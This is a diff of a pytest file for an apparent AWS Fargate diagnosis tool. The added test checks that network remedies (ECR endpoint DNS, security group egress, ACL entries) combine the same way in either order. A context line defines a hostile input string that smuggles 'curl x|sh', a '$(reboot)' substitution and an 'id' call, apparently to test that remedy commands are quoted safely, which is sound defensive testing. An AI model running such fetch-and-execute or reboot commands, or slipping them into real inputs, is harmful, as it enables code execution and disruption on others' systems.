@@ -3,12 +3,13 @@
 import re
 import shlex
 from collections.abc import Callable
+from functools import reduce
 
 import pytest
 
 from fargate_doctor.diagnosis.remedy import Remedy
-from tests.remedies.account import Account
-from tests.remedies.broken import BROKEN
+from tests.remedies.account import ACL, TASK_GROUP, Account, interface_endpoint
+from tests.remedies.broken import BROKEN, DENY_ALL
 from tests.remedies.cli import parse
 
 HOSTILE = "web'; curl x|sh; echo '$(reboot)`id`\n\x1b[31m"
@@ -87,3 +88,23 @@ def test_remedies_never_need_an_answer(break_: Callable[[], Account], unread: st
             parse(command)
         if remedy.change is not None:
             remedy.change(account.snapshot())
+
+
+def test_changes_add_up_in_whatever_order_they_are_made() -> None:
+    """A change starts from the model as it is, not as it was when the remedy was worked out."""
+    account = Account().behind_endpoints(
+        interface_endpoint("ecr.api", PrivateDnsEnabled=False),
+        interface_endpoint("ecr.dkr", PolicyDocument='{"Statement": []}'),
+    )
+    account.group(TASK_GROUP)["IpPermissionsEgress"] = []
+    account.acl(ACL)["Entries"] = list(DENY_ALL)
+    changes = [each.change for each in remedies_of(account) if each.change]
+    before = account.snapshot()
+
+    forwards = reduce(lambda changed, change: change(changed), changes, before)
+    backwards = reduce(lambda changed, change: change(changed), reversed(changes), before)
+
+    for changed in (forwards, backwards):
+        assert changed.endpoints.by_id["vpce-0ecr.api"].private_dns_enabled
+        assert changed.security_groups.by_id[TASK_GROUP].ip_permissions_egress
+        assert len(changed.network_acls.by_id[ACL].entries) > len(DENY_ALL)
